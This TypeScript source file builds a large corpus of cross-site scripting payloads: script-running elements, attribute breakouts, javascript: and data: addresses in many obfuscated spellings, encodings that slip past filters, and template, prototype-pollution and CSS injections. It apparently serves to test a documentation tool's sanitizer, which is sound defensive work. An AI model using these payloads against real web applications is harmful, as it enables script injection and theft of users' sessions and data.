// Provides functions that return strings which run a script if they are taken as markup, as an address or as code. Each
// function takes the call that its string must make, such as `hit(123)`. Also provides functions and texts that put
// such a string into another spelling or place.

/**
 * Returns a hostile string that runs `call` if nothing prevents it. The string has the digits of `call` in plain text
 * somewhere.
 */
export type Hostile = (call: string) => string;

const base64 = (text: string): string => Buffer.from(text).toString('base64');
const digitsOf = (call: string): string => call.replace(/\D/g, '');

/** Functions that return an element whose script runs by itself or after an event. */
export const elements: readonly Hostile[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<script src="data:text/javascript,${call}"></script>`,
  (call) => `<script type=module>${call}</script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<img src="x" onerror="${call}" alt='x'>`,
  (call) => `<image src=x onerror=${call}>`,
  (call) => `<img srcset="x 1x" onerror=${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><script href="data:text/javascript,${call}"/></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s></svg>`,
  (call) => `<svg><a xlink:href="javascript:${call}"><text y=20>x</text></a></svg>`,
  (call) => `<svg><a><animate attributeName=href values="javascript:${call}"/><text y=20>x</text></a></svg>`,
  (call) => `<svg><set attributeName=onmouseover to="${call}"/></svg>`,
  (call) => `<svg><foreignObject><iframe srcdoc="<script>parent.${call}</script>"></iframe></foreignObject></svg>`,
  (call) =>
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=x ` +
    `onerror='${call}'/></svg>#x"/></svg>`,
  (call) => `<svg><style><img src=x onerror=${call}></style></svg>`,
  (call) => `<svg><title><img src=x onerror=${call}></title></svg>`,
  (call) => `<svg><desc><script>${call}</script></desc></svg>`,
  (call) => `<math><mi xlink:href="javascript:${call}">x</mi></math>`,
  (call) => `<math href="javascript:${call}">x</math>`,
  (call) => `<math><mtext><img src=x onerror=${call}></mtext></math>`,
  (call) => `<math><annotation-xml encoding="text/html"><img src=x onerror=${call}></annotation-xml></math>`,
  (call) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call}&gt;">`,
  (call) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}>`,
  (call) => `<math><mtext></p><style><a title="</style><img src=x onerror=${call}>">`,
  (call) => `<svg></p><style><a id="</style><img src=x onerror=${call}>">`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<iframe src="javascript:parent.${call}"></iframe>`,
  (call) => `<iframe onload=${call}></iframe>`,
  (call) => `<object data="javascript:${call}"></object>`,
  (call) =>
    `<object data="data:text/html;base64,${base64(`<script>parent.${call}</script>`)}#${digitsOf(call)}"></object>`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<a href="javascript:${call}">x</a>`,
  (call) => `<a href="javascript:${call}" target=_self>x</a>`,
  (call) => `<area href="javascript:${call}">`,
  (call) => `<form action="javascript:${call}"><button>x</button></form>`,
  (call) => `<form><button formaction="javascript:${call}">x</button></form>`,
  (call) => `<form><input type=submit formaction="javascript:${call}"></form>`,
  (call) => `<form id=f action="javascript:${call}"></form><button form=f>x</button>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<select autofocus onfocus=${call}></select>`,
  (call) => `<textarea autofocus onfocus=${call}></textarea>`,
  (call) => `<x tabindex=0 autofocus onfocus=${call}>x</x>`,
  (call) => `<p contenteditable autofocus onfocus=${call}>x</p>`,
  (call) => `<details open ontoggle=${call}><summary>x</summary></details>`,
  (call) => `<dialog open onclose=${call}>x</dialog>`,
  (call) => `<video src=x onerror=${call}></video>`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `<audio src=x onerror=${call}></audio>`,
  (call) => `<video poster=x onloadstart=${call}></video>`,
  (call) => `<marquee onstart=${call}>x</marquee>`,
  (call) => `<body onload=${call}>`,
  (call) => `<body onpageshow=${call}>`,
  (call) => `<link rel=stylesheet href="data:text/css," onload=${call}>`,
  (call) => `<style onload=${call}></style>`,
  (call) => `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=${call}></b>`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<base href="javascript:${call}//">`,
  (call) => `<template><script>${call}</script></template>`,
  (call) => `<div><template shadowrootmode=open><img src=x onerror=${call}></template></div>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `<noembed><img title="</noembed><img src=x onerror=${call}>"></noembed>`,
  (call) => `<xmp><p title="</xmp><img src=x onerror=${call}>">`,
  (call) => `<textarea><p title="</textarea><img src=x onerror=${call}>">`,
  (call) => `<title><p title="</title><img src=x onerror=${call}>">`,
  (call) => `<select><option><style></option></select><img src=x onerror=${call}></style>`,
  (call) => `<table><td><img src=x onerror=${call}>`,
  (call) => `<table background="javascript:${call}">`,
  (call) => `<div style="background:url(javascript:${call})">x</div>`,
  (call) => `<div style="width:expression(${call})">x</div>`,
  (call) => `<button popovertarget=p onclick=${call}>x</button><div popover id=p onbeforetoggle=${call}>x</div>`,
  (call) => `<input type=image src=x onerror=${call}>`,
  (call) => `<img src=x name=getElementById onerror=${call}>`,
  (call) => `<isindex action="javascript:${call}" type=image>`,
  (call) => `<keygen autofocus onfocus=${call}>`,
  (call) => `<plaintext><img src=x onerror=${call}>`,
];

/**
 * Texts before and after an element that end or begin a piece of markup or code, so that a parser reads it differently.
 */
export const breakers: readonly (readonly [before: string, after: string])[] = [
  ['', ''],
  ['">', ''],
  ["'>", ''],
  ['`>', ''],
  ['"/>', '<x y="'],
  ["'/>", "<x y='"],
  ['&quot;&gt;', ''],
  ['</script>', ''],
  ['</SCRIPT\n>', '<script>'],
  ['"}</script>', '<script>'],
  ['<!--<script>', '-->'],
  ['</title>', ''],
  ['</textarea>', ''],
  ['</style>', '<style>'],
  ['</noscript>', ''],
  ['</template>', ''],
  ['</select></option>', ''],
  ['</code></pre>', ''],
  ['</a></p></div></main></body></html>', ''],
  ['</svg></math>', ''],
  ['-->', '<!--'],
  ['--!>', '<!--'],
  ['<!-->', ''],
  ['<!--->', ''],
  ['<!--', '-->'],
  ['<!-- > ', ' -->'],
  [']]>', ''],
  ['<![CDATA[', ']]>'],
  ['<?xml version="1.0"?>', '<?'],
  ['<!DOCTYPE x [<!ENTITY x "', '">]>&x;'],
  ['<svg><![CDATA[', ']]></svg>'],
  ['<math><!--', '--></math>'],
  ['\u0000', '\u0000'],
  ['\ufeff', ''],
  ['\u2028', '\u2029'],
  ['\u202e', '\u202c'],
  ['&lt;b&gt;', ''],
  ['\\"', '\\'],
  ['\r\n\r\n', ''],
  ['# ', '\n===='],
  ['> - ', ''],
  ['1. ', ''],
  ['| a |\n|---|\n| ', ' |'],
  ['**', '**'],
  ['`', '`'],
  ['[', '](/docs/intro)'],
  ['![', '](x.png)'],
  ['\n\n~~~html\n', '\n~~~'],
  [':::note[', ']\nx\n:::'],
  ['<details><summary>', '</summary>x</details>'],
];

/** Other spellings of an element, which a filter of names and characters may not know. */
export const spellings: readonly ((markup: string) => string)[] = [
  (markup) => markup.replace(/<(\/?)([a-z]+)/g, (_, slash: string, name: string) => `<${slash}${name.toUpperCase()}`),
  (markup) => markup.replace(/<([a-z]+) /g, '<$1/'),
  (markup) => markup.replace(/<([a-z]+) /g, '<$1\n'),
  (markup) => markup.replace(/<([a-z]+) /g, '<$1\f'),
  (markup) => markup.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (markup) => markup.replaceAll('<', '&#60;').replaceAll('>', '&#x3e;'),
  (markup) => markup.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (markup) => markup.replaceAll('<', '&#0000060').replaceAll('>', '&#62'),
  (markup) => markup.replaceAll('<', '%3C').replaceAll('>', '%3E').replaceAll('"', '%22'),
  (markup) => markup.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
  (markup) => markup.replaceAll('<', '\\x3c').replaceAll('>', '\\x3e'),
  (markup) => markup.replaceAll('<', '＜').replaceAll('>', '＞'),
  (markup) => markup.replaceAll('<', '‹').replaceAll('>', '›'),
  (markup) => markup.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (markup) => markup.replaceAll('<', '\\<').replaceAll('>', '\\>'),
  (markup) => markup.replace(/<([a-z])/g, '<\u0000$1'),
  (markup) => markup.replaceAll('=', '\t=\n'),
  (markup) => markup.replace(/<([a-z]+)/g, '<x:$1'),
  (markup) => markup.replace(/>/, ''),
  (markup) => `<${markup}`,
];

/** Addresses whose scheme runs code, in many spellings, including characters that a browser removes from an address. */
export const addresses: readonly Hostile[] = [
  ...[
    'javascript:',
    'JaVaScRiPt:',
    ' javascript:',
    '\tjavascript:',
    'java\tscript:',
    'java\nscript:',
    'java\rscript:',
    'javascript\t:',
  ],
  ...[
    '\u0001javascript:',
    '\u0000javascript:',
    'java\u0000script:',
    '\u00a0javascript:',
    '\u2028javascript:',
    '\ufeffjavascript:',
    '\u200bjavascript:',
  ],
  ...[
    '&#106;avascript:',
    '&#x6A;avascript:',
    '&#0000106avascript:',
    'javascript&colon;',
    'javascript&#58;',
    'java&Tab;script:',
    'java&NewLine;script:',
  ],
  ...[
    '%6aavascript:',
    'javascript%3A',
    '\\u006aavascript:',
    '\\6a avascript:',
    'javascript\\:',
    'ｊａｖａｓｃｒｉｐｔ:',
    'javaſcript:',
    'javascript：',
  ],
  ...[
    'javascript://x/%0a',
    'javascript://%0d%0a',
    'javascript:/*--></script>*/',
    'javascript:void ',
    'javascript:"<b>";',
    'vbscript:',
    'livescript:',
    'mocha:',
  ],
  ...[
    'data:text/javascript,',
    'view-source:javascript:',
    'feed:javascript:',
    'jar:javascript:',
    'blob:javascript:',
    'x-javascript:',
    'filesystem:javascript:',
  ],
  ...[
    '//javascript:',
    'https:javascript:',
    '#javascript:',
    '?javascript:',
    './javascript:',
    '/javascript:',
    'op:javascript:',
    'schema:javascript:',
    'mailto:javascript:',
  ],
]
  .map(
    (scheme): Hostile =>
      (call) =>
        `${scheme}${call}`,
  )
  .concat([
    (call) => `data:text/html,<script>parent.${call}</script>`,
    (call) => `DATA:text/html;charset=utf-8,%3Cscript%3E${call}%3C/script%3E`,
    (call) => `data:text/html;base64,${base64(`<script>parent.${call}</script>`)}#${digitsOf(call)}`,
    (call) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>`,
    (call) => `data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">${call}</script>`,
    (call) => `data:,${call}`,
  ]);

/** Functions that put an address into a place that can have one, such as a link or a form. */
export const addressed: readonly ((address: string) => string)[] = [
  (address) => address,
  (address) => `[x](${address})`,
  (address) => `[x](<${address}> "x")`,
  (address) => `![x](${address})`,
  (address) => `<${address}>`,
  (address) => `[x]\n\n[x]: ${address}`,
  (address) => `<a href="${address}">x</a>`,
  (address) => `<a href=${address}>x</a>`,
  (address) => `<form action='${address}'><button>x</button></form>`,
  (address) => `<svg><a href="${address}"><text y=20>x</text></a></svg>`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `url(${address})`,
];

const closingOf = (open: string): string => {
  if (open.includes('{{{')) return '}}}';
  if (open.includes('{{')) return '}}';
  return open.startsWith('<') || open === '{%' ? '%>' : '}';
};

/**
 * Event handlers of the HTML standard and others that browsers support. One name that a filter misses is enough to run
 * a script.
 */
const handlers = (
  'abort animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput ' +
  'beforematch beforepaste beforetoggle begin blur cancel canplay change click close contextmenu ' +
  'contentvisibilityautostatechange copy cuechange cut dblclick drag dragend dragenter dragover dragstart ' +
  'drop durationchange emptied end ended error focus focusin focusout formdata gotpointercapture ' +
  'hashchange input invalid keydown keypress keyup load loadeddata loadstart lostpointercapture message ' +
  'mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup paste pause play pointercancel ' +
  'pointerdown pointerenter pointermove pointerout pointerover pointerrawupdate pointerup popstate progress ' +
  'repeat reset resize scroll scrollend scrollsnapchange search securitypolicyviolation select ' +
  'selectionchange selectstart show slotchange stalled submit suspend timeupdate toggle touchcancel ' +
  'touchend touchmove touchstart transitioncancel transitionend transitionrun transitionstart unload ' +
  'volumechange waiting webkitanimationend webkittransitionend wheel'
).split(' ');

/** Texts that end an attribute and add an attribute that runs code. */
export const attributes: readonly Hostile[] = handlers.flatMap((name): Hostile[] => [
  (call) => `" on${name}="${call}" tabindex="0" x="`,
  (call) => `' on${name}='${call}' tabindex='0' x='`,
  (call) => `\` on${name}=${call} tabindex=0 x=\``,
  (call) => `x on${name}=${call} tabindex=0`,
  (call) => `{on${name}="${call}"}`,
  (call) => `"on${name}=\t${call}//`,
]);

/** Texts that end a string, a comment or a template in a script, a style or a regular expression, and run code. */
export const codes: readonly Hostile[] = [
  ...[
    '"',
    "'",
    '`',
    '\\"',
    "\\'",
    '\\\\"',
    "\\\\'",
    '"]',
    '"}',
    "'}",
    '"]}',
    '`}',
    '*/',
    '\n',
    '\u2028',
    '\u2029',
    '/',
    '/g',
    ')',
    '})',
    '});',
    ']',
  ].flatMap((end): Hostile[] => [
    (call) => `${end};${call};//`,
    (call) => `${end}-${call}-${end}`,
    (call) => `${end}+${call}+${end}`,
    (call) => `${end}</script><script>${call}//`,
    (call) => `${end}<!--${call}`,
    (call) => `${end},${call},${end}`,
  ]),
  ...['${', '{{', '#{', '<%=', '{%', '[[${', '@{', '*{', '{', '{{{', '$${', '${{', '\\${'].map(
    (open): Hostile =>
      (call) =>
        `${open}${call}${closingOf(open)}`,
  ),
  ...['{{constructor.constructor("', '${constructor.constructor("', '#{global.process.mainModule.constructor("'].map(
    (open): Hostile =>
      (call) =>
        `${open}${call}")()}}`,
  ),
  ...[
    '{"__proto__":{"x":"',
    '{"constructor":{"prototype":{"x":"',
    '{"dangerouslySetInnerHTML":{"__html":"',
    '{"$$typeof":"react.element","props":{"x":"',
  ].map(
    (open): Hostile =>
      (call) =>
        `${open}<img src=x onerror=${call}>"}}`,
  ),
  ...[
    '}*{background:url("javascript:',
    ';background:url(javascript:',
    '}@import "javascript:',
    '</style><script>',
    ';behavior:url(#',
    ';-moz-binding:url(javascript:',
    ';x:expression(',
    '\\3c/style\\3e\\3cscript\\3e',
    '*/}body{background:url(javascript:',
  ].map(
    (open): Hostile =>
      (call) =>
        `${open}${call}`,
  ),
  ...['^(?:', '[', '(?<', '\\', '^</script>', '(a+)+$', '[\\s\\S]'].map(
    (open): Hostile =>
      (call) =>
        `${open}<img src=x onerror=${call}>`,
  ),
];

/** Texts in Mokcha's own notation, which could become an element, an attribute or an address. */
export const notations: readonly Hostile[] = [
  ...['note', 'tip', 'tabs', 'tab', 'details', 'script', 'iframe', 'constructor', '__proto__'].flatMap(
    (name): Hostile[] => [
      (call) =>
        `:::${name}[<img src=x onerror=${call}>]{onclick="${call}" style="x" id='"><script>${call}</script>'}\nx\n:::`,
      (call) =>
        `::::tabs{group="${call}"}\n:::tab{label="<img src=x onerror=${call}>" onclick=${call}}\nx\n:::\n::::\n${name}`,
      (call) =>
        `::${name}[javascript:${call}]{href="javascript:${call}" src="javascript:${call}" ` +
        `srcdoc="<script>${call}</script>"}`,
      (call) => `:${name}[<svg onload=${call}>]{onmouseover=${call}}`,
    ],
  ),
  ...['operation', 'schema', 'enum', 'parameters', 'errors', 'history', 'changes', 'limit'].flatMap(
    (name): Hostile[] => [
      (call) => `::${name}[shop/<img src=x onerror=${call}>]`,
      (call) =>
        `::${name}[shop]{api="<img src=x onerror=${call}>" fields="${call}" in="javascript:${call}" depth=${call}}`,
      (call) => `::${name}{.${call} #${call} onclick=${call}}`,
      (call) => `\`::${name}[\`<script>${call}</script>\`]\``,
    ],
  ),
  ...[
    'html',
    'js',
    'svg',
    'math',
    'mermaid',
    'diff',
    'http',
    'json schema=',
    '"><img src=x onerror=',
    '{onclick=',
    'js title=',
    'language-" onclick="',
  ].flatMap((info): Hostile[] => [
    (call) => `\`\`\`${info} ${call}\n<img src=x onerror=${call}>\n\`\`\``,
    (call) => `~~~${info}${call}\n</code></pre><script>${call}</script>\n~~~`,
    (call) => `\`\`\`${info} title="<img src=x onerror=${call}>" "onclick=${call}\n+<script>${call}</script>\n\`\`\``,
  ]),
  ...[
    '## ',
    '[^',
    '<!-- ',
    '<!-- mokcha-ignore ',
    '- [ ] ',
    '    ',
    '\t',
    '![',
    '[',
    '[x][',
    '***',
    '~~',
    '$$\n',
    '$',
    '\\(',
    '&#',
    '@',
    'www.',
    'https://',
    'xmpp:',
    'mailto:',
    '<mailto:',
    '<https://example.com/',
    '{#',
    '{.',
    '{%',
    '{{<',
    'import x from "',
    'export const x = ',
    '<Component x={',
    '[[',
    '==',
    '^',
    '+++\n',
    '---\n',
    '!!js/function ',
    '&x ',
    '*x ',
    '%',
    '!include ',
  ].flatMap((open): Hostile[] => [
    (call) => `${open}<img src=x onerror=${call}>`,
    (call) => `${open}javascript:${call}`,
    (call) => `${open}" onmouseover="${call}" x="`,
    (call) => `${open}${call}]](javascript:${call})-->}}`,
  ]),
];
